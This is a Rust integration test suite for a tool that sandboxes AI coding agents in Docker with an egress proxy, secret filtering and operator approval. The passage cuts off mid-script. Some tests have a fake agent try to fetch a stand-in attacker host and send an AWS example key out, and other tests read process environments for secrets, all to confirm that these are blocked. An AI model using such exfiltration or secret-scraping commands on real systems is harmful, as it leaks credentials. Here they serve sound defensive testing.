//! Bottles in the real Docker engine, with real images built on the local
//! Debian base (tests/images/make-base.sh) and the fake agent. Driven
//! through the `bb` binary as a user would. Every test removes the
//! containers, networks and state it made, also when it fails.
//!
//! Without a reachable Docker engine these tests say so and pass, unless
//! BB_REQUIRE_DOCKER=1 (CI sets it), which makes that a failure.

mod support;

use std::path::Path;
use std::process::Command;
use std::sync::Mutex;

use support::{ok, Bb};

use support::docker::{bundle_file, docker, docker_ok, left_behind, stat, Env};

/// Docker tests share images and build them; one at a time.
static SERIAL: Mutex<()> = Mutex::new(());

#[test]
fn a_bottle_is_isolated_and_stops_cleanly() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let slug = env.start();
    assert!(slug.starts_with("faker-"), "{slug}");

    // bb ls shows it running, with its sidecars.
    let ls = String::from_utf8_lossy(&env.bb(&["ls"]).stdout).into_owned();
    assert!(
        ls.contains(&slug) && ls.contains("running") && ls.contains("egress,supervise"),
        "{ls}"
    );

    let agent = format!("bb-{slug}");
    let bundle = format!("bb-sidecars-{slug}");
    // The agent is only on the internal network, which has no route out,
    // and publishes nothing.
    let nets = docker(&[
        "inspect",
        "-f",
        "{{range $k, $v := .NetworkSettings.Networks}}{{$k}} {{end}}",
        &agent,
    ]);
    assert_eq!(nets, format!("bb-{slug}-internal"));
    assert_eq!(
        docker(&[
            "network",
            "inspect",
            "-f",
            "{{.Internal}}",
            &format!("bb-{slug}-internal")
        ]),
        "true"
    );
    let ports = docker(&["inspect", "-f", "{{json .HostConfig.PortBindings}}", &agent]);
    assert!(ports == "{}" || ports == "null", "published ports: {ports}");
    assert_eq!(
        docker(&[
            "inspect",
            "-f",
            "{{index .Config.Labels \"bb.role\"}}",
            &agent
        ]),
        "agent"
    );
    trusts_its_ca(&slug);
    // The agent's skill is in its ~/.claude, the agent user's (the image
    // has none: the engine would have made it root's); its console
    // holder is bb-console alone (none of the bundle's daemons).
    let skills = "/home/node/.claude/skills/review";
    assert_eq!(
        docker(&["exec", &agent, "cat", &format!("{skills}/SKILL.md")]),
        Env::SKILL.trim_end()
    );
    assert_eq!(
        stat(
            &agent,
            "%U %a",
            &[
                "/home/node/.claude",
                skills,
                &format!("{skills}/scripts/check.sh"),
            ]
        ),
        "node 755\nnode 755\nnode 644",
        "the agent owns its ~/.claude (it writes its conversations there)"
    );
    assert_eq!(
        docker(&["exec", &agent, "ls", "/opt/bb"]),
        "bb-console",
        "the agent's container holds the console alone"
    );
    // The bundle is on both networks, named `sidecars` on the internal one.
    let bundle_nets = docker(&[
        "inspect",
        "-f",
        "{{range $k, $v := .NetworkSettings.Networks}}{{$k}} {{end}}",
        &bundle,
    ]);
    assert!(
        bundle_nets.contains("internal") && bundle_nets.contains("egress"),
        "{bundle_nets}"
    );
    // The agent cannot reach the bundle's egress side (no route off the
    // internal network), but does reach the bundle by name.
    let egress_ip = docker(&[
        "inspect",
        "-f",
        &format!("{{{{(index .NetworkSettings.Networks \"bb-{slug}-egress\").IPAddress}}}}"),
        &bundle,
    ]);
    let probe = docker(&[
        "exec",
        &agent,
        "bash",
        "-c",
        &format!(
            "timeout 3 bash -c 'echo > /dev/tcp/{egress_ip}/9099' && echo reached || echo refused"
        ),
    ]);
    assert_eq!(probe, "refused");
    // Container names resolve; nothing outside does (no DNS way out).
    assert!(!docker(&["exec", &agent, "getent", "hosts", "sidecars"]).is_empty());
    assert_eq!(
        docker(&["inspect", "-f", "{{json .HostConfig.Dns}}", &agent]),
        "[\"127.0.0.1\"]"
    );
    // The proxy env, the manifest's env, and the bottle CA in the trust store.
    let envs = docker(&["exec", &agent, "env"]);
    assert!(envs.contains("HTTPS_PROXY=http://sidecars:9099"), "{envs}");
    assert!(envs.contains("NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt"));
    assert!(envs.contains("GREETING=hello-from-manifest"));
    let ca = bundle_file(&slug, "/etc/bb/ca.crt");
    let first_line = ca.lines().nth(1).unwrap();
    let bundle_certs = docker(&["exec", &agent, "cat", "/etc/ssl/certs/ca-certificates.crt"]);
    assert!(
        bundle_certs.contains(first_line),
        "the bottle CA is trusted in the agent"
    );
    assert!(docker(&["exec", &agent, "ls", "/home/node/.bb"]).contains("prompt.md"));
    assert_eq!(
        docker(&["exec", &agent, "cat", "/home/node/workspace/src/lib.rs"]),
        "// the user's code"
    );
    assert_eq!(
        stat(&agent, "%U", &["/home/node/workspace/src/lib.rs"]),
        "node"
    );
    // The CA key never enters the agent.
    assert!(!docker(&["exec", &agent, "sh", "-c", "ls /etc/bb 2>&1; true"]).contains("ca.key"));
    // Nothing of the operator's machine is mounted into the bottle: its
    // state is a volume of its own, in the bundle alone.
    for c in [&agent, &bundle] {
        assert_eq!(
            docker(&["inspect", "-f", "{{json .HostConfig.Binds}}", c]),
            "null",
            "{c} has a host bind mount"
        );
        let mounts = docker(&[
            "inspect",
            "-f",
            "{{range .Mounts}}{{.Type}}:{{.Name}}:{{.Destination}} {{end}}",
            c,
        ]);
        assert!(
            mounts
                .split_whitespace()
                .all(|m| m == format!("volume:bb-state-{slug}:/var/lib/bb")),
            "{c} mounts {mounts}"
        );
    }
    assert_eq!(
        docker(&["inspect", "-f", "{{range .Mounts}}{{.Name}}{{end}}", &agent]),
        "",
        "the agent has no way to the state"
    );
    assert!(
        !std::path::Path::new(&env.home().join("state")).exists(),
        "no state on the operator's machine"
    );
    // The state is the daemons' (their group), bb's own files root's, the
    // CA key nowhere on disk.
    let owned = |p: &str| docker(&["exec", "-u", "0", &bundle, "stat", "-c", "%a %U:%g", p]);
    assert_eq!(owned("/var/lib/bb"), "1770 root:10900");
    assert_eq!(owned("/var/lib/bb/proposals"), "2770 root:10900");
    assert_eq!(owned("/var/lib/bb/metadata.json"), "600 root:0");
    assert!(
        !docker(&["exec", "-u", "0", &bundle, "ls", "/var/lib/bb"]).contains("key"),
        "the CA key lives in memory only"
    );

    // Secrets reach the egress daemon alone, handed over at start: they are
    // in no container config and no other daemon's environment.
    assert!(
        !docker(&["inspect", &bundle]).contains("s3cr3t"),
        "docker inspect shows a secret"
    );
    assert!(!docker(&["exec", &bundle, "env"]).contains("s3cr3t"));
    // Read as the daemon's own user: no other may.
    let environ = |daemon: &str| {
        let gid = 10900;
        let user = if daemon == "egress" {
            format!("10901:{gid}")
        } else {
            format!("10903:{gid}")
        };
        docker(&[
            "exec", "-u", &user, &bundle, "sh", "-c",
            &format!("for p in /proc/[0-9]*; do if grep -q '{daemon}' $p/cmdline 2>/dev/null; then tr '\\0' '\\n' < $p/environ; fi; done"),
        ])
    };
    // Held in egress's memory, handed over on its stdin: in no
    // environment, which every process a daemon starts would inherit.
    assert!(environ("egress").contains("BB_SLUG="));
    assert!(!environ("egress").contains("s3cr3t"));
    assert!(!environ("supervise").contains("s3cr3t"));
    let layer = docker(&["diff", &bundle]);
    assert!(
        !layer.contains("git-gate-keys") && !layer.contains("ca.key"),
        "keys stay in memory and the tmpfs: {layer}"
    );
    assert!(
        !envs.contains("s3cr3t"),
        "the agent never holds the credential"
    );
    // The agent's way out is the egress proxy, which refuses what the
    // bottle does not allow, and secrets, with its marker.
    let ask = |line: &str| {
        docker(&[
            "exec",
            "-i",
            &agent,
            "sh",
            "-c",
            &format!("printf '{line}\\nexit\\n' | claude"),
        ])
    };
    let refused = ask("fetch http://evil.example/");
    assert!(
        refused.contains("403")
            && refused.contains("bb egress blocked this request: host evil.example"),
        "{refused}"
    );
    let leaked = ask("fetch http://example.com/upload/AKIAIOSFODNN7EXAMPLE");
    assert!(
        leaked.contains("bb egress blocked this request") && leaked.contains("aws-access-key-id"),
        "{leaked}"
    );
    let audit = bundle_file(&slug, "/var/lib/bb/audit.jsonl");
    assert!(
        audit.contains("host-not-allowed") && audit.contains("dlp:aws-access-key-id"),
        "audit log in the bottle's state: {audit}"
    );
    assert!(!audit.contains("AKIAIOSFODNN7EXAMPLE"));
    // The same, as `bb logs` shows it: one line per request.
    let logs = |name: &str| {
        let o = env.bb(&["logs", name]);
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    let refused_line = |text: &str| {
        text.lines().any(|l| {
            l.contains("blocked")
                && l.contains(" evil.example")
                && l.ends_with("[host-not-allowed]")
        })
    };
    assert!(refused_line(&logs(&slug)), "{}", logs(&slug));
    // And `bb ls --format json` lists it running.
    let ls = env.bb(&["ls", "--format", "json"]);
    let ls: serde_json::Value = serde_json::from_slice(&ls.stdout).unwrap();
    let listed = ls["bottles"].as_array().unwrap();
    assert!(
        listed
            .iter()
            .any(|b| b["slug"] == slug.as_str() && b["state"] == "running"),
        "{ls}"
    );

    let o = env.bb(&["stop", &slug]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert_eq!(left_behind(&slug), "");
    // A stopped bottle's log is kept on this machine and read from there.
    assert!(refused_line(&logs(&slug)), "{}", logs(&slug));
    assert!(env
        .home()
        .join("archive")
        .join(&slug)
        .join("audit.jsonl")
        .exists());
}

/// The agent trusts its bundle's CA, and the public ones still, both
/// through the bundle file and OpenSSL's hashed folder, as
/// `update-ca-certificates` would have left them.
fn trusts_its_ca(slug: &str) {
    let agent = format!("bb-{slug}");
    let verify = |how: &str, cert: &str| {
        docker(&[
            "exec",
            &agent,
            "sh",
            "-c",
            &format!("openssl verify {how} {cert} 2>&1"),
        ])
    };
    let ca = "/usr/local/share/ca-certificates/bb-bottle.crt";
    assert_eq!(
        bundle_file(slug, "/etc/bb/ca.crt").trim(),
        docker(&["exec", &agent, "cat", ca])
    );
    for how in [
        "-no-CApath -CAfile /etc/ssl/certs/ca-certificates.crt",
        "-no-CAfile -CApath /etc/ssl/certs",
    ] {
        assert_eq!(verify(how, ca), format!("{ca}: OK"), "{how}");
        let public = "/etc/ssl/certs/ISRG_Root_X1.pem";
        assert_eq!(verify(how, public), format!("{public}: OK"), "{how}");
    }
}

/// An image whose trust store has hooks (Java's keystore would) gets the
/// CA from its own `update-ca-certificates`, hooks and all, after the
/// start.
#[test]
fn a_trust_store_with_hooks_gets_the_ca_from_its_own_tools() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new(concat!(
        "USER root\n",
        "RUN mkdir -p /etc/ca-certificates/update.d && printf '#!/bin/sh\\ntouch /tmp/hook-ran\\n' > /etc/ca-certificates/update.d/bb-test && chmod 755 /etc/ca-certificates/update.d/bb-test\n",
        "USER node\n",
    ));
    let slug = env.start();
    assert_eq!(
        docker(&["exec", &format!("bb-{slug}"), "ls", "/tmp/hook-ran"]),
        "/tmp/hook-ran",
        "the store's own tool ran its hooks"
    );
    trusts_its_ca(&slug);
    ok(&env.bb(&["stop", &slug]));
    assert_eq!(left_behind(&slug), "");
}

/// How many agent CLI processes run in the bottle (the fake agent is
/// installed as `claude`).
fn agent_processes(slug: &str) -> usize {
    docker(&["top", &format!("bb-{slug}"), "-o", "pid,args"])
        .lines()
        .filter(|l| {
            let args = l.trim_start().split_once(' ').map(|(_, a)| a.trim_start());
            args.is_some_and(|a| a.starts_with("claude "))
        })
        .count()
}

#[test]
fn leaving_and_coming_back_reattaches_to_the_same_agent() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let envs = env.envs();
    let pairs: Vec<(&str, &str)> = envs.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let mut bb = env.workspace_with_agent(24, 80);
    // The agent starts at the pane's size (80x24 leaves 21x56).
    bb.wait_text("size 21x56");
    bb.keys("hello\r");
    bb.wait_text("you said: hello");
    bb.keys("pid\r");
    let screen = bb.wait_text("pid ");
    let pid = screen
        .lines()
        .find_map(|l| l.split("pid ").nth(1))
        .map(|p| p.trim().to_string())
        .unwrap();
    // Ctrl-P reaches the agent (Docker's default detach keys would eat it).
    bb.send(b"\x10");
    bb.keys("q\r");
    bb.wait_text("> ^Pq");
    bb.resize(30, 100);
    bb.wait_text("size 27x75");
    let slug = env.slugs().pop().unwrap();

    // Three times: leave (or, the last time, bb is killed), the agent
    // prints while nobody watches, and the next bb shows it, in the same
    // agent process.
    for round in 0..3 {
        bb.keys(&format!("later 1 printed-while-away-{round}\r"));
        bb.wait_text("will print in 1s");
        if round == 2 {
            bb.kill_hard();
        } else {
            bb.prefix("d");
            bb.wait_exit();
        }
        let ls = String::from_utf8_lossy(&env.bb(&["ls"]).stdout).into_owned();
        assert!(
            ls.contains(&slug) && ls.contains("running"),
            "the bottle outlives bb: {ls}"
        );
        let printed = || {
            docker(&[
                "exec",
                &format!("bb-{slug}"),
                "cat",
                "/tmp/fake-agent-printed",
            ])
            .ends_with(&format!("away-{round}"))
        };
        support::eventually("the agent printed while nobody watched", printed);
        bb = Bb::spawn(&[], &pairs, &env.project(), 30, 100);
        bb.wait_text("detached");
        bb.keys("\r");
        bb.wait_text(&format!("printed-while-away-{round}"));
        bb.keys("pid\r");
        bb.wait_text(&format!("pid {pid}"));
        assert_eq!(agent_processes(&slug), 1, "one agent, round {round}");
    }
    // Its history is the pane's too: the first words are in scrollback.
    bb.prefix("[");
    bb.keys("g");
    bb.wait_text("> hello");
    bb.keys("q");

    bb.prefix("x");
    bb.wait_text("Stop faker");
    bb.keys("y");
    bb.wait_text(&format!("stopped {slug}"));
    bb.prefix("d");
    bb.wait_exit();
    assert_eq!(left_behind(&slug), "");
}

/// Wide characters through a real bottle, as the outer terminal (tmux)
/// receives them from bb: drawn live, and drawn again by a new bb from
/// the console holder's snapshot when it re-attaches. Each time every cell
/// of the pane is what a tmux pane of its size shows for the same bytes.
#[test]
fn wide_characters_show_as_tmux_shows_them_after_a_reattach() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    if Command::new("tmux").arg("-V").output().is_err() {
        eprintln!("tmux is not installed: the wide character comparison is skipped");
        return;
    }
    let env = Env::new("");
    // The stream goes in with the workspace; it clears what came before.
    let stream = format!("\x1b[2J\x1b[H{}", support::tmux::wide_stream());
    std::fs::write(env.project().join("wide.bytes"), &stream).unwrap();
    let mut vars = env.envs();
    vars.push(("TERM".into(), "xterm-256color".into()));
    let vars: Vec<(&str, &str)> = vars.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let bb = env!("CARGO_BIN_EXE_bb");
    // bb, and after it leaves, a second bb in the same terminal.
    let (rows, cols) = (30u16, 120u16);
    let outer = support::tmux::Server::start(
        "outer",
        rows,
        cols,
        &vars,
        &format!("cd {} && {bb}; exec {bb}", env.project().display()),
    );
    outer.launch("faker");
    outer.wait_for("the agent", |s| s.contains("fake-agent ready"));
    outer.keys("size");
    outer.key("Enter");
    outer.wait_for("its size", |s| s.contains("size ") && s.contains('x'));
    let text = outer.text();
    let (pane_rows, pane_cols) = text
        .lines()
        .filter_map(|l| l.split("size ").nth(1))
        .filter_map(|s| {
            let (r, c) = s.trim().split_once('x')?;
            Some((r.parse::<u16>().ok()?, c.trim().parse::<u16>().ok()?))
        })
        .next_back()
        .expect("the agent's size");
    outer.keys("show /home/node/workspace/wide.bytes");
    outer.key("Enter");
    outer.wait_for("the stream", |s| s.contains("Scotland"));

    // The same bytes in a tmux pane of the pane's size (the agent's reply
    // ends with its prompt).
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("bytes");
    std::fs::write(&file, format!("{stream}\n> ")).unwrap();
    let reference = support::tmux::Server::start(
        "reference",
        pane_rows,
        pane_cols,
        &[],
        &format!("stty -echo; cat {}; sleep 600", file.display()),
    );
    reference.wait_for("the stream", |s| s.contains("Scotland"));
    let left = usize::from(cols - pane_cols);
    let compare = |step: &str| {
        let ours = || {
            let all = outer.cells(rows, cols);
            support::tmux::region(&all, 1, left, pane_rows.into(), pane_cols.into())
        };
        let theirs = reference.cells(pane_rows, pane_cols);
        // Until bb has drawn it all (a hang's bound, not a speed limit).
        let mut last = Vec::new();
        for _ in 0..250 {
            let (report, differ, total) = support::tmux::differences(&ours(), &theirs, 8);
            if differ == 0 {
                eprintln!("{step}: all {total} cells equal");
                return;
            }
            last = report;
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
        panic!(
            "{step}: bb's pane differs from tmux's:\n{}\nbb:\n{}\ntmux:\n{}",
            last.join("\n"),
            outer.text(),
            reference.text()
        );
    };
    compare("drawn live");

    // Leave; the next bb finds the bottle and re-attaches from the snapshot.
    outer.key("C-b");
    outer.keys("d");
    outer.wait_for("the next bb", |s| s.contains("detached"));
    outer.key("Enter");
    outer.wait_for("the re-attached pane", |s| s.contains("Scotland"));
    compare("re-attached");

    let slug = env.slugs().pop().unwrap();
    ok(&env.bb(&["stop", &slug]));
    assert_eq!(left_behind(&slug), "");
}

#[test]
fn a_dead_agent_or_bundle_comes_back_with_one_key_and_its_work() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let mut bb = env.workspace_with_agent(30, 100);
    let slug = env.slugs().pop().unwrap();
    let agent = format!("bb-{slug}");
    let bundle = format!("bb-sidecars-{slug}");
    docker(&[
        "exec",
        &agent,
        "sh",
        "-c",
        "echo precious > /home/node/work.txt",
    ]);
    bb.keys("hello\r");
    bb.wait_text("you said: hello");

    // The agent container is killed: its row says so and why; Enter
    // brings the same container back, continuing the conversation.
    docker(&["kill", &agent]);
    // Its exit code, as `bb ls` knows it (SIGKILL).
    bb.wait_text("the agent was killed (exit 137");
    bb.keys("\r");
    bb.wait_text("fake-agent ready (resumed)");
    assert_eq!(agent_processes(&slug), 1);
    assert_eq!(
        docker(&["exec", &agent, "cat", "/home/node/work.txt"]),
        "precious"
    );

    // The bundle is killed: the agent has lost its proxy, and the row
    // says so; one key restarts the bundle with a new CA the agent trusts.
    docker(&["kill", &bundle]);
    bb.wait_text("bundle down");
    bb.keys("fetch http://example.com/\r");
    bb.wait_text("fetch: cannot reach the proxy");
    bb.prefix("r");
    // A new agent process on the new CA, continuing the conversation.
    bb.wait_for("the agent back on the new CA", |s| {
        s.contains("fake-agent ready (resumed)")
            && !s.contains("cannot reach the proxy")
            && !s.contains("bundle down")
    });
    bb.keys("fetch http://example.com/\r");
    // The proxy answers (the name does not resolve here: a 502).
    bb.wait_text("fetch: HTTP/1.1 502");
    let ca = bundle_file(&slug, "/etc/bb/ca.crt");
    let trusted = docker(&["exec", &agent, "cat", "/etc/ssl/certs/ca-certificates.crt"]);
    let body = |pem: &str| {
        pem.lines()
            .filter(|l| !l.starts_with("-----"))
            .collect::<String>()
    };
    assert!(
        body(&trusted).contains(&body(&ca)),
        "the agent trusts the bundle's new CA"
    );
    assert_eq!(agent_processes(&slug), 1);
    assert_eq!(
        docker(&["exec", &agent, "cat", "/home/node/work.txt"]),
        "precious"
    );

    bb.prefix("x");
    bb.wait_text("Stop faker");
    bb.keys("y");
    bb.wait_text(&format!("stopped {slug}"));
    bb.prefix("d");
    bb.wait_exit();
    assert_eq!(left_behind(&slug), "");
}

#[test]
fn cleanup_removes_what_no_bottle_owns() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let slug = env.start();
    // The agent container dies and is removed outside bb.
    docker(&["rm", "-f", &format!("bb-{slug}")]);
    let dry = String::from_utf8_lossy(&env.bb(&["cleanup", "--dry-run"]).stdout).into_owned();
    assert!(
        dry.contains(&format!("would remove container bb-sidecars-{slug}")),
        "{dry}"
    );
    assert!(
        dry.contains(&format!("network bb-{slug}-internal")),
        "{dry}"
    );
    assert!(!left_behind(&slug).is_empty(), "a dry run removes nothing");
    let done = env.bb(&["cleanup"]);
    assert!(
        done.status.success(),
        "{}",
        String::from_utf8_lossy(&done.stderr)
    );
    assert_eq!(left_behind(&slug), "");
    let again = String::from_utf8_lossy(&env.bb(&["cleanup"]).stdout).into_owned();
    assert!(
        again.contains(&format!("state dir {slug}")) || again.contains("Nothing to clean up"),
        "{again}"
    );
    assert!(env.slugs().is_empty(), "{:?}", env.slugs());
}

#[test]
fn a_failed_build_shows_its_step_and_leaves_nothing() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("RUN echo the-step-output && false\n");
    let o = env.bb(&["start", "faker", "--yes"]);
    assert!(!o.status.success());
    let err = String::from_utf8_lossy(&o.stderr).into_owned();
    assert!(
        err.contains("building bb-agent-fake:") && err.contains(" failed"),
        "{err}"
    );
    assert!(
        err.contains("the-step-output"),
        "the failing step's output is shown: {err}"
    );
    assert!(
        env.slugs().is_empty(),
        "no state dir is left: {:?}",
        env.slugs()
    );
    assert_eq!(
        docker(&[
            "ps",
            "-aq",
            "--filter",
            "label=bb.agent=faker",
            "--filter",
            "label=bb.bottle=fake"
        ]),
        ""
    );
}

/// `bb stop --all` stops every bottle of the home (all at once), each with
/// its work saved, and says so for each in turn.
#[test]
fn stop_all_stops_every_bottle_of_the_home() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let slugs: Vec<String> = (0..3).map(|_| env.start()).collect();
    let o = env.bb(&["stop", "--all"]);
    let said = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(
        o.status.success(),
        "{said}{}",
        String::from_utf8_lossy(&o.stderr)
    );
    for slug in &slugs {
        assert!(said.contains(&format!("stopped {slug}\n")), "{said}");
        assert_eq!(left_behind(slug), "", "{slug}");
    }
    let ls = String::from_utf8_lossy(&env.bb(&["ls"]).stdout).into_owned();
    assert!(slugs.iter().all(|s| !ls.contains(s.as_str())), "{ls}");
    ok(&env.bb(&["cleanup"]));
}

/// An agent's name means its one running bottle, whatever stopped ones of
/// it left behind; with two running, the commands list them and suggest
/// nothing wider.
#[test]
fn an_agent_name_means_its_one_running_bottle_or_lists_them() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let gone = env.start();
    ok(&env.bb(&["stop", &gone]));
    assert!(env.home().join("archive").join(&gone).exists());
    let first = env.start();
    let o = env.bb(&["logs", "faker"]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));

    let second = env.start();
    for command in ["stop", "logs"] {
        let o = env.bb(&[command, "faker"]);
        let said = String::from_utf8_lossy(&o.stderr).into_owned();
        assert!(!o.status.success(), "bb {command} faker: {said}");
        assert!(
            said.contains(&first) && said.contains(&second),
            "bb {command} faker: {said}"
        );
        assert!(!said.contains("--all"), "bb {command} faker: {said}");
        // Only running bottles can be stopped; logs name every one kept.
        assert_eq!(
            said.contains(&gone),
            command == "logs",
            "bb {command} faker: {said}"
        );
    }
    let ls = String::from_utf8_lossy(&env.bb(&["ls"]).stdout).into_owned();
    assert!(ls.contains(&first) && ls.contains(&second), "{ls}");
    ok(&env.bb(&["stop", "--all"]));
    assert_eq!(left_behind(&first), "");
    assert_eq!(left_behind(&second), "");
}

#[test]
fn two_homes_never_touch_each_others_bottles() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let (a, b) = (Env::new(""), Env::new(""));
    let slug = a.start();
    // Home B does not list it, cannot stop it, and does not clean it up.
    let ls = String::from_utf8_lossy(&b.bb(&["ls"]).stdout).into_owned();
    assert!(!ls.contains(&slug), "{ls}");
    let stop = b.bb(&["stop", &slug]);
    assert!(!stop.status.success());
    let err = String::from_utf8_lossy(&stop.stderr).into_owned();
    assert!(err.contains("belongs to bb home"), "{err}");
    let dry = String::from_utf8_lossy(&b.bb(&["cleanup", "--dry-run"]).stdout).into_owned();
    assert!(!dry.contains(&slug), "{dry}");
    assert!(
        docker(&["inspect", "-f", "{{.State.Running}}", &format!("bb-{slug}")]) == "true",
        "home A's bottle runs on"
    );
    assert_eq!(
        docker(&[
            "volume",
            "inspect",
            "-f",
            "{{.Name}}",
            &format!("bb-state-{slug}")
        ]),
        format!("bb-state-{slug}"),
        "home A's bottle keeps its state"
    );
}

#[test]
fn cleanup_leaves_a_launch_in_progress_alone() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    // An image that takes a while to build (new each run, so it is never
    // reused): the launch holds its lease meanwhile.
    let nonce = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    let env = Env::new(&format!("RUN sleep 6 && echo slow-build-{nonce}\n"));
    let start = env
        .command(
            Path::new(env!("CARGO_BIN_EXE_bb")),
            &["start", "faker", "--yes"],
        )
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    support::eventually("the launch made its state volume", || {
        !env.slugs().is_empty()
    });
    let cleanup = env.bb(&["cleanup"]);
    assert!(cleanup.status.success());
    let said = String::from_utf8_lossy(&cleanup.stdout).into_owned();
    assert!(!said.contains("bb-state-"), "{said}");
    let out = start.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "the launch went on: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let slug = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert_eq!(
        docker(&["inspect", "-f", "{{.State.Running}}", &format!("bb-{slug}")]),
        "true"
    );
    let image = docker(&["inspect", "-f", "{{.Config.Image}}", &format!("bb-{slug}")]);
    drop(env);
    docker(&["rmi", "-f", &image]);
}

#[test]
fn a_launch_killed_half_way_is_named_and_can_be_stopped() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let nonce = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos();
    let env = Env::new(&format!("RUN sleep 6 && echo slow-build-{nonce}\n"));
    let mut start = env
        .command(
            Path::new(env!("CARGO_BIN_EXE_bb")),
            &["start", "faker", "--yes"],
        )
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    // Its state volume, and the copy of the workspace bb keeps.
    support::eventually("the launch made its state volume and its copy", || {
        env.slugs().pop().is_some_and(|slug| {
            env.home()
                .join("archive")
                .join(slug)
                .join("work.json")
                .exists()
        })
    });
    // bb is killed while it builds the image.
    start.kill().unwrap();
    let _ = start.wait();
    let slug = env.slugs().pop().unwrap();
    // Time passes: the lease the dead launch held is no longer refreshed.
    let lease = env.home().join("launching").join(&slug);
    assert!(lease.exists(), "the killed launch left its lease");
    let aged = Command::new("touch")
        .args(["-d", "1 hour ago"])
        .arg(&lease)
        .status()
        .unwrap();
    assert!(aged.success());

    let ls = String::from_utf8_lossy(&env.bb(&["ls"]).stdout).into_owned();
    assert!(
        ls.contains(&format!("{slug}: its launch was interrupted"))
            && ls.contains(&format!("bb stop {slug}")),
        "bb ls names the half-made bottle and what to do: {ls}"
    );
    // Its agent never ran: there is no work to save, and the copy goes.
    let o = env.bb(&["stop", &slug]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    assert!(!lease.exists(), "its lease goes with it");
    assert!(!env
        .home()
        .join("archive")
        .join(&slug)
        .join("work.git")
        .exists());
    assert_eq!(left_behind(&slug), "");
}

#[test]
fn a_base_image_that_cannot_be_pulled_says_what_to_do() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let o = env
        .command(
            Path::new(env!("CARGO_BIN_EXE_bb")),
            &["start", "faker", "--yes"],
        )
        .env("BB_BASE_IMAGE", "bb-test-no-such-base:1")
        .output()
        .unwrap();
    assert!(!o.status.success());
    let err = String::from_utf8_lossy(&o.stderr).into_owned();
    let line = err
        .lines()
        .find(|l| l.starts_with("error:"))
        .unwrap_or_default();
    assert!(
        line.contains("building bb-sidecars:")
            && line.contains("its base image bb-test-no-such-base:1 cannot be pulled")
            && line.contains("BB_BASE_IMAGE"),
        "{err}"
    );
    assert!(env.slugs().is_empty(), "{:?}", env.slugs());
}

#[test]
fn an_agent_asks_and_the_operator_approves_in_the_workspace() {
    let _serial = SERIAL.lock().unwrap_or_else(|p| p.into_inner());
    if !docker_ok() {
        return;
    }
    let env = Env::new("");
    let mut bb = env.workspace_with_agent(40, 160);

    // Refused: the host is not in the bottle's allowlist.
    bb.keys("fetch http://pypi.example/simple/\r");
    bb.wait_text("bb egress blocked this request: host pypi.example is not in this bottle's egress allowlist");
    // Quiet with the refusal on its screen: its title and row say blocked.
    bb.wait_for("the agent shown blocked", |s| {
        s.contains(" faker · blocked · ") && s.contains("  blocked · fake")
    });
    // The agent asks; the request shows up in bb.
    bb.keys("ask pypi.example need-packages\r");
    bb.wait_text("faker: egress pypi.example");
    bb.prefix("p");
    bb.wait_text("Proposal from faker");
    assert!(
        bb.screen().contains("need-packages"),
        "the agent's reason is shown"
    );
    // The diff is against the live routes, read from the bundle.
    bb.wait_text("+ - host: pypi.example");
    bb.keys("a");
    // The agent gets its answer once the route is live.
    bb.wait_text("ask: Approved: pypi.example is now allowed. Retry your request.");
    bb.keys("fetch http://pypi.example/simple/\r");
    // Now allowed; this machine has no internet, so it fails on DNS instead.
    bb.wait_text("pypi.example does not resolve");

    // The operator edits the live routes with `e`: a broken edit first,
    // which opens the editor again with the error on top and the text
    // kept; fixed, it is applied and reloaded.
    std::fs::write(
        env.home().parent().unwrap().join("editor.sh"),
        concat!(
            "#!/bin/sh\n",
            "if grep -q '^# INVALID: ' \"$1\" && grep -q '^routes: \\[broken' \"$1\"; then\n",
            "  grep -v '^routes: \\[broken' \"$1\" > \"$1.new\" && mv \"$1.new\" \"$1\"\n",
